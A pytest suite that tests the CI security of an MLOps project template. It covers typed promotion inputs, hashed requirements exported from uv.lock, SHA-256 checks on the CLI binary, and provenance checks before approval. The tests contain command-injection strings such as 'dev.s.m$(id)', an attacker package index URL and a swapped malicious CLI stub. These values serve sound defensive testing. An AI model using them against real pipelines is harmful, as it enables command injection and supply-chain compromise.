    doc = (project / "docs" / "ci-setup.md").read_text()
    errors = []
    if platform == "azure_devops" and pattern == "deploy_models":
        if "`my_mlops_project-promote-staging` > Run pipeline (branch `main`), parameters" not in doc:
            errors.append("the staging promotion's parameters are not on promote-staging, run on main")
        row = next(line for line in doc.splitlines() if line.startswith("| `my_mlops_project-staging-promotion` |"))
        if "*Allow unknown status* off" not in row:
            errors.append("the staging-promotion connection does not say Allow unknown status off")
    if platform == "gitlab" and "18.2.2" not in doc:
        errors.append("the fork advice predates GitLab 18.2.2's fork claims")
    if (
        "builds the wheel with `uv build`\n  inside jobs that hold a token, and the build backend runs with it"
        not in doc
    ):
        errors.append("the wheel build's token is not stated per platform")
    return errors


@pytest.mark.parametrize("platform", PLATFORMS)
def test_the_setup_guide_corrections(tmp_path, template_before, platform):
    project = bake_into(TEMPLATE_DIR, tmp_path / "new", platform, "deploy_models")
    assert doc_errors(project, platform, "deploy_models") == []
    old = bake_into(template_before, tmp_path / "old", platform, "deploy_models")
    assert doc_errors(old, platform, "deploy_models"), platform


# --------------------------------------------------------------------------------------
# 2. GitLab promotions take typed inputs, not pipeline variables

PROMOTION_VARIABLES = ("PROMOTE_MODEL", "MODEL_VERSION", "SOURCE_MODEL")


def gitlab_input_attacks(project: Path, work: Path) -> list[str]:
    """What a pipeline variable (whoever may set them) chooses in a GitLab promotion, and which
    promotion choices are not typed inputs with a regex."""
    from test_cicd import gitlab_inputs

    where = layout(project)
    found = []
    inputs = {}
    for path in where.ci_files("gitlab"):
        inputs.update(gitlab_inputs(path))
    pattern = json.loads((project / ".cookiecutter-replay.json").read_text())["cookiecutter"]["deployment_pattern"]
    wanted = ["promote_model", "model_version"] + (["source_model"] if pattern == "deploy_models" else [])
    bad_values = {"promote_model": "yes; id", "model_version": "3 || true", "source_model": "dev.s.m$(id)"}
    for name in wanted:
        spec = inputs.get(name)
        if not spec:
            found.append(f"{name}: not a spec:inputs input")
        elif not spec.get("regex"):
            found.append(f"{name}: an input without a regex")
        elif re.search(spec["regex"], bad_values[name]) or not re.search(spec["regex"], str(spec.get("default", ""))):
            found.append(f"{name}: its regex {spec['regex']!r} takes {bad_values[name]!r} or refuses its default")
    for job in EXTRACT["gitlab"](project):
        rules = " ".join(r.get("if", "") for r in job.raw.get("rules", []))
        used = [v for v in PROMOTION_VARIABLES if f"${v}" in rules]
        if used:
            found.append(f"{job.name}: its rules read the pipeline variables {used}")
        if not any(k == "model_promotion_job" for _, k, _ in job.ops):
            continue
        bin_dir = where.project / ".databricks-cli" / "bin"
        bin_dir.mkdir(parents=True, exist_ok=True)
        (bin_dir / "databricks").write_text(STUB)
        (bin_dir / "databricks").chmod(0o755)
        (bin_dir / "databricks.sha256").write_text(
            subprocess.run(["sha256sum", "databricks"], cwd=bin_dir, capture_output=True, text=True).stdout
        )
        defaults = {k: str(v.get("default", "")) for k, v in inputs.items()}
        env = {"CI_PROJECT_DIR": str(where.repo), "GITLAB_USER_LOGIN": "m", "CI_JOB_URL": "u"}
        env.update({"DATABRICKS_OIDC_TOKEN": "t", "SOURCE_MODEL": "dev.attacker.model", "MODEL_VERSION": "4"})
        code, calls, output = run_with_stubs(
            _gitlab_job_script(job, defaults), work / job.name, _happy_replies(), env, where.repo
        )
        runs = [c["call"] for c in calls if "bundle run model_promotion_job" in c["call"]]
        if any("dev.attacker.model" in r or "source_version=4" in r for r in runs):
            found.append(f"{job.name}: a pipeline variable chose what it promotes: {runs[0]}")
    return found


@pytest.mark.parametrize(("pattern", "root"), [("deploy_models", "."), ("hybrid", "."), ("deploy_models", "ml/fares")])
def test_gitlab_promotions_take_typed_inputs_not_pipeline_variables(tmp_path, template_before, pattern, root):
    project = bake_into(TEMPLATE_DIR, tmp_path / "new", "gitlab", pattern, root)
    assert gitlab_input_attacks(project, tmp_path / "new-run") == []
    doc = (project / "docs" / "ci-setup.md").read_text()
    assert "Minimum role to use pipeline variables: No one allowed" in doc
    old = bake_into(template_before, tmp_path / "old", "gitlab", pattern, root)
    found = "\n".join(gitlab_input_attacks(old, tmp_path / "old-run"))
    assert "model_version: not a spec:inputs input" in found, found
    assert "its rules read the pipeline variables ['PROMOTE_MODEL']" in found, found
    if pattern == "deploy_models":
        assert "a pipeline variable chose what it promotes" in found, found


# --------------------------------------------------------------------------------------
# 6. Staging and prod jobs install pinned, hashed requirements exported from uv.lock

REQUIREMENTS_FILE = "dist/requirements-jobs.txt"
RUNTIME_NUMPY = "2.1.3"  # the template's .venv, the fake's stand-in for the runtime


def _lock(numpy: str = RUNTIME_NUMPY, digest: str = "b" * 64) -> str:
    """A uv.lock of a project that needs numpy (what a reviewed lock holds)."""
    return f"""version = 1
revision = 3
requires-python = ">=3.11"

[[package]]
name = "my-mlops-project"
version = "0.1.0"
source = {{ editable = "." }}
dependencies = [
    {{ name = "numpy" }},
]

[package.metadata]
requires-dist = [{{ name = "numpy", specifier = ">=1.26,<3" }}]

[[package]]
name = "numpy"
version = "{numpy}"
source = {{ registry = "https://pypi.org/simple" }}
wheels = [
    {{ url = "https://files.pythonhosted.org/packages/numpy-{numpy}-cp311-cp311-manylinux_2_17_x86_64.whl", hash = "sha256:{digest}", size = 1 }},
]
"""


def _fake_install(text: str) -> str:
    """What the fake workspace's job runner says of a requirements file ("" = it installs)."""
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "clitest"))
    try:
        import jobworker
    finally:
        sys.path.pop(0)
    try:
        jobworker.pinned_requirements("/Workspace/files/" + REQUIREMENTS_FILE, text)
    except jobworker.TaskFailure as failure:
        return str(failure)
    return ""


def pinned_install_attacks(project: Path, platform: str, work: Path) -> list[str]:
    """Staging and prod jobs that install the wheel's ranges from the index, deploy jobs that do
    not export the pinned requirements from uv.lock (UV_NO_CONFIG=1, --frozen) right before
    `bundle deploy`, and what an attacker's requirements file or unreviewed lock change achieves."""
    found = []
    bundle = yaml.safe_load((project / "databricks.yml").read_text())
    for target in ("staging", "prod"):
        libraries = ((bundle["targets"][target].get("variables") or {}).get("job_libraries")) or []
        files = [
            lib
            for lib in libraries
            if (isinstance(lib, str) and lib.startswith("-r ")) or (isinstance(lib, dict) and "requirements" in lib)
        ]
        if not any(REQUIREMENTS_FILE in str(f) for f in files):
            found.append(f"{target}: the jobs install the wheel's ranges from the index, no hashed requirements file")
    uv = shutil.which("uv") or str(Path(sys.executable).parent / "uv")
    for job in EXTRACT[platform](project):
        deploys = [t for verb, _, t in job.ops if verb == "deploy" and t in ("staging", "prod")]
        if not deploys:
            continue
        exports = [s for s in job.scripts if "uv export" in s]
        deploy_at = job.commands.find("bundle deploy")
        export_at = job.commands.find("uv export")
        if not exports or export_at < 0 or export_at > deploy_at:
            found.append(f"{job.file}:{job.name}: deploys {deploys[0]} without exporting the requirements from uv.lock")
            continue
        line = next(ln.strip() for ln in exports[0].splitlines() if "uv export" in ln)
        if "UV_NO_CONFIG=1" not in line and job.env.get("UV_NO_CONFIG") != "1":
            found.append(f"{job.file}:{job.name}: exports with the configuration of a parent folder")
        if "--frozen" not in line or "--no-hashes" in line:
            found.append(f"{job.file}:{job.name}: the export resolves again or drops the hashes: {line}")
        # The export as the job runs it, in a checkout holding the reviewed lock and an
        # attacker's requirements file (committed into dist/ with git add -f, say).
        checkout = work / job.name
        shutil.rmtree(checkout, ignore_errors=True)
        (checkout / "dist").mkdir(parents=True)
        shutil.copy(project / "pyproject.toml", checkout / "pyproject.toml")
        (checkout / "uv.lock").write_text(_lock())
        attacker = f"numpy=={RUNTIME_NUMPY} \\\n    --hash=sha256:{'e' * 64}\n--extra-index-url https://pypi.attacker.example.com/simple\n"
        (checkout / REQUIREMENTS_FILE).write_text(attacker)
        env = {"PATH": f"{Path(uv).parent}:/usr/bin:/bin", "HOME": str(work), "UV_OFFLINE": "1"}
        command = line.replace("uv export", f"{uv} export", 1)
        result = subprocess.run(["bash", "-c", command], cwd=checkout, env=env, capture_output=True, text=True)
        exported = (checkout / REQUIREMENTS_FILE).read_text()
        if result.returncode != 0 or "e" * 64 in exported or "attacker" in exported:
            found.append(f"{job.file}:{job.name}: deploys the attacker's requirements file ({result.stderr[-200:]})")
        elif _fake_install(exported):
            found.append(
                f"{job.file}:{job.name}: the reviewed lock's export does not install: {_fake_install(exported)}"
            )
        # uv.lock changed without review: another numpy. The export follows the lock (what
        # CODEOWNERS on uv.lock guards); a version the runtime does not have stops the run.
        (checkout / "uv.lock").write_text(_lock(numpy="2.3.0", digest="c" * 64))
        subprocess.run(["bash", "-c", command], cwd=checkout, env=env, capture_output=True, text=True)
        changed = (checkout / REQUIREMENTS_FILE).read_text()
        if changed == exported or "Library installation failed" not in _fake_install(changed):
            found.append(f"{job.file}:{job.name}: a changed uv.lock neither changes the export nor stops the run")
    return found


@pytest.mark.parametrize("platform", PLATFORMS)
def test_staging_and_prod_install_hashed_requirements_exported_from_the_lock(tmp_path, template_before, platform):
    for compute in ("serverless", "classic"):
        project = bake_into(TEMPLATE_DIR, tmp_path / f"new-{compute}", platform, "deploy_code", compute=compute)
        assert pinned_install_attacks(project, platform, tmp_path / f"new-run-{compute}") == []
    old = bake_into(template_before, tmp_path / "old", platform, "deploy_code")
    found = "\n".join(pinned_install_attacks(old, platform, tmp_path / "old-run"))
    assert "staging: the jobs install the wheel's ranges from the index" in found, found
    assert "prod: the jobs install the wheel's ranges from the index" in found, found
    assert "deploys staging without exporting the requirements from uv.lock" in found, found
    assert "deploys prod without exporting the requirements from uv.lock" in found, found


def test_the_fake_runs_a_task_only_with_pinned_hashed_requirements_the_runtime_meets():
    """The fake's job runner reads a requirements file as pip's hash-checking mode does."""
    good = f"numpy=={RUNTIME_NUMPY} \\\n    --hash=sha256:{'b' * 64}\n    # via my-mlops-project\n"
    assert _fake_install(good) == ""
    edited = {
        "hash removed": f"numpy=={RUNTIME_NUMPY}\n",
        "range instead of a pin": f"numpy>=1.26 --hash=sha256:{'b' * 64}\n",
        "another index": f"--index-url https://pypi.attacker.example.com/simple\n{good}",
        "a version the runtime lacks": f"numpy==2.3.0 --hash=sha256:{'b' * 64}\n",
        "a package the runtime lacks": f"{good}evil==1.0 --hash=sha256:{'d' * 64}\n",
    }
    for case, text in edited.items():
        assert _fake_install(text).startswith("Library installation failed for /Workspace/files/"), case


# --------------------------------------------------------------------------------------
# 8. The CLI built once per run, from one definition, checked by its SHA-256 where it runs


def cli_build_problems(project: Path, platform: str) -> list[str]:
    """Where the CLI build is written more than once, runs more than once in one pipeline run,
    runs in a job that holds a principal while another job could build it without one, comes from
    a cache, or is run by a job that did not build it without checking its SHA-256."""
    where = layout(project)
    problems = []
    files = where.ci_files(platform)
    if platform == "github_actions" and where.mono:  # the project's local actions, at the repository root
        files += sorted((where.repo / ".github" / "actions").glob(f"{where.slug}-*/action.yml"))
    written = [p for p in files for _ in range(p.read_text().count('go -C "$module" build'))]
    if len(written) != 1:
        problems.append(f"the CLI build is written {len(written)} times ({sorted({p.name for p in written})})")
    jobs = EXTRACT[platform](project)
    builders = {j.name: j for j in jobs if 'go -C "$module" build' in j.commands}
    per_run: dict[tuple[str, str], list[str]] = {}
    for job in builders.values():
        for trigger in job.triggers:
            per_run.setdefault((job.file, trigger), []).append(job.name)
    for (file, trigger), names in sorted(per_run.items()):
        if len(names) > 1:
            problems.append(f"{file} ({trigger}): builds the CLI in {len(names)} jobs of one run: {sorted(names)}")
    for job in jobs:
        if not job.uses_databricks:
            continue
        if job.name in builders and platform != "azure_devops":
            problems.append(f"{job.file}:{job.name}: builds the CLI itself while it can obtain a token")
        if job.name not in builders and "sha256sum -c" not in job.commands:
            problems.append(f"{job.file}:{job.name}: runs a CLI built elsewhere without checking its SHA-256")
    for path in files:
        text = path.read_text()
        if re.search(r"actions/cache@|Cache@2[\s\S]{0,200}databricks-cli|cache:[\s\S]{0,120}databricks-cli", text):
            problems.append(f"{path.name}: the CLI comes from a cache")
    return problems


def swapped_cli_runs(project: Path, platform: str, work: Path) -> list[str]:
    """GitHub and GitLab: the CLI steps of each job that runs a CLI another job built, given a
    binary other than the one whose hash the build recorded: [] when every such job stops."""
    found = []
    where = layout(project)
    for job in EXTRACT[platform](project):
        if not job.uses_databricks or 'go -C "$module" build' in job.commands:
            continue
        check = next((s for s in job.scripts if "sha256sum -c" in s), None)
        if check is None:
            found.append(f"{job.file}:{job.name}: no hash check")
            continue
        temp = work / job.name / "runner_temp"
        bins = [temp / "databricks-cli", where.project / ".databricks-cli" / "bin"]
        for folder in bins:
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "databricks").write_text("#!/bin/sh\necho the attacker's CLI\n")
        recorded = "0" * 64  # what the build job recorded for the binary it built
        (bins[1] / "databricks.sha256").write_text(f"{recorded}  databricks\n")
        body = check.replace("${{ inputs.sha256 }}", recorded)
        env = {"RUNNER_TEMP": str(temp), "EXPECTED_SHA256": recorded, "CI_PROJECT_DIR": str(where.repo)}
        code, calls, output = run_with_stubs(body, work / job.name, {}, env, where.project)
        if code == 0:
            found.append(f"{job.file}:{job.name}: runs a binary whose SHA-256 is not the one the build recorded")
    return found


@pytest.mark.parametrize("platform", PLATFORMS)
def test_the_cli_is_built_once_per_run_from_one_definition(tmp_path, template_before, platform):
    for pattern in PATTERNS:
        for root in (".", "ml/fares"):
            project = bake_into(TEMPLATE_DIR, tmp_path / f"new-{pattern}-{root[:2]}", platform, pattern, root)
            assert cli_build_problems(project, platform) == [], (pattern, root)
            if platform != "azure_devops":
                assert swapped_cli_runs(project, platform, tmp_path / f"run-{pattern}-{root[:2]}") == []
    old = bake_into(template_before, tmp_path / "old", platform, "deploy_models")
    found = "\n".join(cli_build_problems(old, platform))
    if platform == "github_actions":
        assert "the CLI build is written 6 times" in found, found
        assert "cd.yml (push:main): builds the CLI in 2 jobs of one run" in found, found
        assert "promote.yml (manual): builds the CLI in 2 jobs of one run" in found, found
        assert "cd.yml:deploy-prod: builds the CLI itself while it can obtain a token" in found, found
    elif platform == "gitlab":  # built once per pipeline already, but run unchecked
        assert "promote-prod: runs a CLI built elsewhere without checking its SHA-256" in found, found
    else:  # Azure DevOps: one template, built in the one job of each pipeline that runs it
        assert found == "", found


# --------------------------------------------------------------------------------------
# 3. The staging promotion's provenance, checked before the approval, by a read-only principal

CI_SP = "00000000-0000-0000-0000-000000000003"


def _dotenv(job: CIJob, cwd: Path) -> dict[str, str]:
    """GitLab: the variables a job's dotenv report passes to the jobs that need it."""
    report = ((job.raw.get("artifacts") or {}).get("reports") or {}).get("dotenv")
    path = cwd / report if report else None
    if not path or not path.exists():
        return {}
    return dict(line.split("=", 1) for line in path.read_text().splitlines() if "=" in line)


def _stage_outputs(job: CIJob, check: CIJob, output: str) -> dict[str, str]:
    """Azure DevOps: the job variables set from another stage's output variables
    (`$[ stageDependencies.<stage>.<job>.outputs['<step>.<variable>'] ]`), as Azure DevOps fills
    them in: from the `##vso[task.setvariable variable=<variable>;isOutput=true]` lines that the
    step named <step> of that stage's job printed (here: the check's log)."""
    steps = check.raw.get("steps") or check.raw.get("strategy", {}).get("runOnce", {}).get("deploy", {}).get(
        "steps", []
    )
    sets = {  # step name -> the output variables its script sets
        s["name"]: set(
            re.findall(
                r"task\.setvariable variable=(\w+);isOutput=true",
                s.get("script") or s.get("inputs", {}).get("inlineScript", ""),
            )
        )
        for s in steps
        if s.get("name")
    }
    printed = dict(SET_OUTPUT.findall(output))
    given = {}
    for var, value in (job.raw.get("variables") or {}).items():
        m = STAGE_OUTPUT.match(str(value).strip())
        if m:
            stage, name, step, out = m.groups()
            ok = f"{stage}.{name}" == check.name and out in sets.get(step, set())
            given[var] = printed.get(out, "") if ok else ""
    return given


def provenance_check_attacks(project: Path, platform: str, work: Path) -> list[str]:
    """The staging promotion of deploy_models: the provenance check must run in a job of its own
    before the approved job, as the CI principal, publish what it found, and hand the approved job
    the version it checked, which that job copies even after the dev owner moved the alias."""
    found = []
    where = layout(project)
    jobs = {j.name: j for j in EXTRACT[platform](project)}
    gated = [j for j in jobs.values() if ("run", "model_promotion_job", "staging") in j.ops]
    assert gated, "no staging promotion"
    for job in gated:
        if re.search(r"get-by-alias \"\$SOURCE_MODEL\"|experiments get-run", job.commands):
            found.append(f"{job.file}:{job.name}: checks provenance inside the approved job, after the approval")
        checks = [jobs[n] for n in sorted(job.needs) if n in jobs and "experiments get-run" in jobs[n].commands]
        if not checks:
            found.append(f"{job.file}:{job.name}: no provenance check runs before its approval")
            continue
        check = checks[0]
        if check.env.get("DATABRICKS_CLIENT_ID") != CI_SP or "bundle run" in check.commands or check.gated:
            found.append(f"{check.file}:{check.name}: the check does not run as the read-only CI principal")
        env = {
            "SOURCE_MODEL": "dev.s.m",
            "MODEL_VERSION": "",
            "CI_PROJECT_DIR": str(where.repo),
            "GITLAB_USER_LOGIN": "reviewer",
            "CI_JOB_URL": "u",
            "DATABRICKS_OIDC_TOKEN": "t",
            "RUNNER_TEMP": str(work / "runner_temp"),
        }
        bin_dir = where.project / ".databricks-cli" / "bin"  # GitLab: the CLI artifact and its hash
        bin_dir.mkdir(parents=True, exist_ok=True)
        (bin_dir / "databricks").write_text(STUB)
        (bin_dir / "databricks").chmod(0o755)
        (bin_dir / "databricks.sha256").write_text(
            subprocess.run(["sha256sum", "databricks"], cwd=bin_dir, capture_output=True, text=True).stdout
        )

        def body(j: CIJob) -> str:
            if platform == "gitlab":
                return _gitlab_job_script(j, {"model_version": "", "source_model": "dev.s.m", "promote_model": "yes"})
            return "\n".join(s for s in j.scripts if "databricks-cli" not in s and "sha256sum" not in s)

        replies = _happy_replies()
        replies["databricks model-versions get-by-alias"] = [{"out": {"version": "3"}}, {"out": {"version": "4"}}]
        env["PIPELINE_WORKSPACE"] = str(work / check.name / "pipeline")
        (work / check.name / "pipeline").mkdir(parents=True, exist_ok=True)
        code, calls, output = run_with_stubs(body(check), work / check.name, replies, env, where.project)
        summary = (work / check.name / "github_summary").read_text() if platform == "github_actions" else output
        if platform == "azure_devops":  # what the run's summary shows: the markdown file the check uploads
            uploaded = re.findall(r"^##vso\[task\.uploadsummary\](.+)$", output, flags=re.M)
            summary = "".join(Path(f).read_text() for f in uploaded if Path(f).is_file())
        if code != 0:
            found.append(f"{check.file}:{check.name}: the check fails on a good version: {output[-400:]}")
            continue
        for fact in ("3", "r1", "5", "7", "dev-sp", COMMIT):
            if fact not in summary:
                found.append(f"{check.file}:{check.name}: the reviewer does not see {fact!r} before approving")
        if platform == "github_actions":
            outputs = (work / check.name / "github_output").read_text()
            passed = dict(line.split("=", 1) for line in outputs.splitlines() if "=" in line)
            given = {  # each job variable set from a job output, as GitHub fills it in
                var: passed.get(m.group(1), "")
                for var, value in (job.raw.get("env") or {}).items()
                if (m := re.search(r"needs\.[\w-]+\.outputs\.(\w+)", str(value)))
            }
        elif platform == "azure_devops":
            given = _stage_outputs(job, check, output)
        else:
            given = _dotenv(check, where.project)
        # The approved job, after the owner moved `champion` to 4.
        moved = _happy_replies(champion="4")
        code, calls, output = run_with_stubs(body(job), work / job.name, moved, {**env, **given}, where.project)
        runs = [c["call"] for c in calls if "bundle run model_promotion_job" in c["call"]]
        if code != 0 or not runs or "source_version=3" not in runs[0]:
            found.append(
                f"{job.file}:{job.name}: copies {runs[0] if runs else 'nothing'} after the check passed version 3"
            )
    return found


@pytest.mark.parametrize("platform", PLATFORMS)
def test_the_staging_provenance_is_checked_and_shown_before_the_approval(tmp_path, template_before, platform):
    project = bake_into(TEMPLATE_DIR, tmp_path / "new", platform, "deploy_models")
    assert provenance_check_attacks(project, platform, tmp_path / "new-run") == []
    doc = (project / "docs" / "ci-setup.md").read_text()
    assert "USE CATALOG" in doc and "CAN_VIEW" in doc and "shared dev deployment" in doc
    old = bake_into(template_before, tmp_path / "old", platform, "deploy_models")
    found = "\n".join(provenance_check_attacks(old, platform, tmp_path / "old-run"))
    assert "checks provenance inside the approved job, after the approval" in found, found
    assert "no provenance check runs before its approval" in found, found
